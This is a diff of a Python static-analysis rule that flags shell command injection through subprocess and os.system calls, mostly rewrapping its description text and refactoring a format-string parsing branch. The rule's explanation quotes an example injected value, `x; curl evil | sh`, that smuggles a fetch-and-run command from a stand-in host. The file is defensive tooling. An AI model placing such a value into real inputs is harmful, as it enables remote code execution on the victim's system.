@@ -38,20 +38,21 @@ RULE = Rule(
     cwe=(78,),
     what=(
         "subprocess functions with shell=True, subprocess.getoutput, os.system, os.popen and "
-        "asyncio.create_subprocess_shell, when the command is not a constant. Values quoted by shlex.quote or converted "
-        "to numbers count as harmless. A constant command that needs no shell is reported with low severity; "
-        "other constants are shown in the strict profile."
+        "asyncio.create_subprocess_shell, when the command is not a constant. Values quoted by shlex.quote or "
+        "converted to numbers count as harmless. A constant command that needs no shell is reported with low "
+        "severity; other constants are shown in the strict profile."
     ),
     why=(
-        "A shell takes ;, |, $( ) and newlines in a value for syntax. A file name or a host name such as "
-        "`x; curl evil | sh` runs whatever it says, with the rights of the program."
+        "A shell takes ;, |, $( ) and newlines in a value for syntax. A file name or a host name such as `x; curl "
+        "evil | sh` runs whatever it says, with the rights of the program."
     ),
     assistants=(
-        "Commands are known as the lines typed into a terminal, and an f-string with shell=True is the shortest way to run one."
+        "Commands are known as the lines typed into a terminal, and an f-string with shell=True is the shortest "
+        "way to run one."
     ),
     remedy=(
-        "The fix splits the line into a list of arguments and drops the shell. Each value then is exactly one argument, "
-        "and must be text or a path; a missing program raises FileNotFoundError where the shell would "
+        "The fix splits the line into a list of arguments and drops the shell. Each value then is exactly one "
+        "argument, and must be text or a path; a missing program raises FileNotFoundError where the shell would "
         "return 127. Lines that use pipes, redirections, variables or patterns are for people to rewrite."
     ),
     prompt="Run programs with subprocess.run and a list of arguments, never through a shell.",
@@ -329,8 +330,9 @@ _NUMBERS = {"os.getpid()", "os.getppid()", "os.getuid()", "os.getgid()", "sys.ex
 # Syntax of a POSIX shell, quotes apart: what holds one of these is left to people.
 _SYNTAX = re.compile(r"[|&;<>()$`*?\[\]#~!{}\n\\=%]")
 _BUILTINS = {
-    "cd", "export", "source", ".", "set", "unset", "alias", "eval", "exec", "type", "command", "umask", "ulimit", "wait",
-    "read", "trap", "exit", "return", "shift", "dir", "copy", "del", "cls", "start", "if", "for", "while", "case",
+    "cd", "export", "source", ".", "set", "unset", "alias", "eval", "exec", "type", "command", "umask", "ulimit",
+    "wait", "read", "trap", "exit", "return", "shift", "dir", "copy", "del", "cls", "start", "if", "for", "while",
+    "case",
 }  # fmt: skip
 _HOLE = "\ue000"  # stands for a value while a command line is split; private use, in no command
 _REASON = "each value becomes one argument and must be text or a path; a missing program now raises an exception"
@@ -435,8 +437,9 @@ def _parts(command: Value) -> list[Part] | None:
         values = right.elements if isinstance(node.right, cst.Tuple) else [right]
         return _filled(value.at(node.left).constant, "%s", values)
     if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value == "format":
-        if all(arg.keyword is None and not arg.star for arg in node.args):
-            return _filled(value.at(node.func.value).constant, "{}", [value.at(arg.value) for arg in node.args])
+        plain = all(arg.keyword is None and not arg.star for arg in node.args)
+        values = [value.at(arg.value) for arg in node.args]
+        return _filled(value.at(node.func.value).constant, "{}", values) if plain else None
     return None
 
 
